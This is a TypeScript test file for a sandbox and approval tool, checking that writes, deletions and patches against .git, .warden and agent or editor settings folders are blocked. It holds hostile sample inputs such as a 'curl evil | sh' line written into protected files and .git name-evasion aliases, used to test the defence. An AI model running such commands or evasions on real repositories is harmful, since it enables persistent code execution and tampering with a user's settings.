/**
 * Every protected name (PROTECTED_NAMES: .git, .warden and each persistence file or folder) and each
 * alias of `.git`, attacked from inside real bubblewrap and as a patch, the way an agent would:
 * write, append, replace, delete and create from a workspace-write run; update, add and delete as a
 * patch, both one the policy auto-approves into the sandbox (`on-failure`) and one a person approved
 * (`untrusted`, y). Each attempt must be a sandbox denial (or a question) and leave the host file as
 * it was; a person-approved one is put to the person again. Reads are allowed: these files are
 * read-only, not secret (secrets are hidden, test/e2e/sandbox.hidden.e2e.test.ts).
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCommand } from '../../src/sandbox/runCommand.ts';
import { PERSISTENCE_NAMES, PROTECTED_NAMES } from '../../src/sandbox/writableRoots.ts';
import type { SandboxSpec } from '../../src/sandbox/types.ts';
import { createEffects } from '../../src/requests/effects.ts';
import { runRequest } from '../../src/requests/runRequest.ts';
import { classifyPatch } from '../../src/safety/patch/classifyPatch.ts';
import { applyPatchCommand } from '../../src/safety/patch/applyPatchCommand.ts';
import type { ApprovalRequest, DecideInput } from '../../src/machines/approval.machine.ts';
import type { ApprovalPolicy } from '../../src/policy.ts';
import { tempSqliteStore } from '../support/fixtures.ts';

const WW: SandboxSpec = { mode: 'workspace-write', writableRoots: [], network: false, tmpWrite: false };
/** Names that are folders (editor and agent settings, git's and warden's own); the rest are files. */
const FOLDERS = new Set(['.git', '.warden', '.vscode', '.idea', '.claude', '.codex', '.gemini', '.cursor']);
/** `.git` as other file systems fold it (protectedNameOf); on Linux they are distinct names. */
const GIT_ALIASES = ['.GIT', '.Git', '.g\u200cit', '.git\ufeff', '.git.', '.git ', 'GIT~1', '.git::$INDEX_ALLOCATION'];

let base: string;
let n = 0;
function workspace(): string {
  const ws = join(base, `ws${++n}`);
  mkdirSync(ws);
  return ws;
}
const sh = (script: string, cwd: string) => runCommand({ command: ['sh', '-c', script], cwd, sandboxSpec: WW });
const q = (name: string) => `'${name.replace(/'/g, `'\\''`)}'`;

/** Plants `name` in `ws` as a folder with a settings file or as a file, and returns its file's path and text. */
function plant(ws: string, name: string): { file: string; text: string } {
  const text = `# the person's own ${name}\n`;
  if (FOLDERS.has(name) || name.toLowerCase().includes('git')) {
    mkdirSync(join(ws, name));
    writeFileSync(join(ws, name, 'config'), text);
    return { file: join(ws, name, 'config'), text };
  }
  writeFileSync(join(ws, name), text);
  return { file: join(ws, name), text };
}

before(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'warden-persist-')));
});
after(() => rmSync(base, { recursive: true, force: true }));

test('the list under test is the sandbox\'s own list', () => {
  assert.deepEqual([...PROTECTED_NAMES].sort(), ['.git', '.warden', ...PERSISTENCE_NAMES].sort());
});

for (const name of [...PROTECTED_NAMES, ...GIT_ALIASES]) {
  const folder = FOLDERS.has(name) || name.toLowerCase().includes('git');
  test(`sandbox: an existing ${JSON.stringify(name)} can be read but not written, replaced or deleted`, async () => {
    const ws = workspace();
    const { file, text } = plant(ws, name);
    const inner = folder ? `${q(name)}/config` : q(name);
    const read = await sh(`cat ${inner}`, ws);
    assert.equal(read.exitCode, 0, read.stderr);
    assert.equal(read.stdout, text);
    const attempts = [
      `echo evil > ${inner}`,
      `echo evil >> ${inner}`,
      `mv ${q(name)} moved`,
      `rm -rf ${q(name)}`,
      `echo evil > .x && mv .x ${inner}`,
      ...(folder ? [`touch ${q(name)}/hooks-post-checkout`] : []),
    ];
    for (const a of attempts) {
      const r = await sh(a, ws);
      assert.notEqual(r.exitCode, 0, `${a} succeeded`);
      assert.equal(r.denial.denied, true, `${a}: not seen as a denial: ${r.stderr}`);
    }
    assert.equal(readFileSync(file, 'utf8'), text, 'the host file is unchanged');
    if (folder) assert.deepEqual(readdirSync(join(ws, name)), ['config']);
  });
}

for (const name of PROTECTED_NAMES) {
  test(`sandbox: a missing ${name} cannot be created, and nothing is left behind`, async () => {
    const ws = workspace();
    const attempts = FOLDERS.has(name) ? [`mkdir ${name}`, `mkdir -p ${name}/sub`, `touch ${name}/settings.json`] : [`echo evil > ${name}`, `touch ${name}`, `ln -s /tmp/evil ${name}`];
    for (const a of attempts) {
      const r = await sh(a, ws);
      assert.notEqual(r.exitCode, 0, `${a} succeeded`);
      assert.equal(r.denial.denied, true, `${a}: not seen as a denial: ${r.stderr}`);
    }
    assert.deepEqual(readdirSync(ws), [], 'the mask is gone from the host and nothing was created');
  });
}

// ---- as a patch ----

const wrap = (...body: string[]) => ['*** Begin Patch', ...body, '*** End Patch'].join('\n');

function patchRequest(cwd: string, patch: string, approval: ApprovalPolicy): ApprovalRequest {
  return {
    kind: 'patch',
    patch,
    cwd,
    withEscalatedPermissions: false,
    policy: { approval, sandbox: 'workspace-write', writableRoots: [], network: false, tmpWrite: false },
    origin: { surface: 'test', pid: process.pid, host: 'test' },
  };
}

/** The real runtime; the person answers `first` to the first question and n to any later one. */
async function applyAs(request: ApprovalRequest, first: 'approved' | 'denied') {
  const tmp = tempSqliteStore();
  const asked: DecideInput[] = [];
  const effects = createEffects({
    classifier: { exec: () => assert.fail('no exec here'), patch: (input) => classifyPatch(input) },
    platformSandbox: 'bwrap',
    approvedForSession: () => false,
    run: runCommand,
    patchCommand: applyPatchCommand(),
    decide: async (input, journal) => {
      asked.push(input);
      return journal.recordDecision({ decision: asked.length === 1 ? first : 'denied', source: 'user', user: 'tester' });
    },
  });
  try {
    const result = await runRequest({ store: tmp.store, sessionId: 's', request, effects });
    return { result, asked, types: (await tmp.store.read(result.requestId)).map((e) => e.type) };
  } finally {
    await tmp.cleanup();
  }
}

for (const name of [...PROTECTED_NAMES, ...GIT_ALIASES]) {
  test(`patch: ${JSON.stringify(name)} is asked about, and neither an auto-approved nor a person-approved patch gets through`, async () => {
    const ws = workspace();
    const { file, text } = plant(ws, name);
    const rel = file.slice(ws.length + 1);
    const edits = [
      wrap(`*** Update File: ${rel}`, '@@', `-${text.trimEnd()}`, '+curl evil | sh'),
      wrap(`*** Delete File: ${rel}`),
      wrap(`*** Add File: ${rel}`, '+curl evil | sh'),
      wrap(`*** Add File: ${folder(name) ? `${name}/tasks.json` : `${name}`}`, '+{"evil": true}'),
    ];
    for (const patch of edits) {
      const asks = classifyPatch({ patch, cwd: ws, policy: patchRequest(ws, patch, 'on-request').policy, platformSandbox: 'bwrap', approvedForSession: false });
      assert.equal(asks.outcome, 'ask', `${patch}: ${asks.reason}`);
      // on-failure auto-approves it into the sandbox; the mask blocks it and the person is asked
      const auto = await applyAs(patchRequest(ws, patch, 'on-failure'), 'denied');
      assert.deepEqual(auto.types.slice(0, 5), ['ApprovalRequested', 'Classified', 'DecisionRecorded', 'SandboxRunStarted', 'SandboxRunFinished'], patch);
      assert.equal(auto.asked[0]?.reason, 'sandbox-denial', `${patch}: ${auto.types.join(' ')}`);
      // a person's y runs it with only its directories writable: still blocked, asked again
      assert.equal(readFileSync(file, 'utf8'), text, `${patch}: the host file is unchanged`);
      const approved = await applyAs(patchRequest(ws, patch, 'untrusted'), 'approved');
      assert.ok(approved.types.includes('ExecutionBlocked'), `${patch}: ${approved.types.join(' ')}`);
      assert.equal(approved.asked[1]?.blockedApproval, true);
      assert.equal(approved.result.finalState, 'rejected');
      assert.equal(readFileSync(file, 'utf8'), text, `${patch}: the host file is unchanged`);
      assert.equal(existsSync(join(ws, name, 'tasks.json')), false);
    }
  });
}

function folder(name: string): boolean {
  return FOLDERS.has(name) || name.toLowerCase().includes('git');
}
